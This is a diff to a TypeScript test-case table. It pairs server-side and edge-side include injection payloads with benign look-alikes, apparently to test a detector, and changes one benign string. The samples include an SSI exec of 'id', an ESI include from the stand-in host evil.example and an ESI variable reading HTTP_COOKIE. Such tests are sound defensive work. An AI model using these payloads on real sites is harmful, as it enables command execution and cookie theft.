@@ -301,7 +301,7 @@ export const cases: FamilyCases = {
     ['<!--#set var="x" value="1" -->', "<!-- set -->"],
     ["<!-- #exec cmd='id' -->", "<!-- #1 -->"],
     ['<esi:include src="http://evil.example/x.xml" />', '<include src="header.html" />'],
-    ["<esi:vars>$(HTTP_COOKIE)</esi:vars>", "<vars>$(name)</vars>"],
+    ["<esi:vars>$(HTTP_COOKIE)</esi:vars>", "vars: $(name)"],
     ['<esi:inline name="/x.html" fetchable="yes">x</esi:inline>', '<inline name="x">y</inline>'],
     ['<esi:assign name="a" value="\'b\'"/>', '<assign name="a" value="b"/>'],
     ["<esi:debug/>", "<debug/>"],
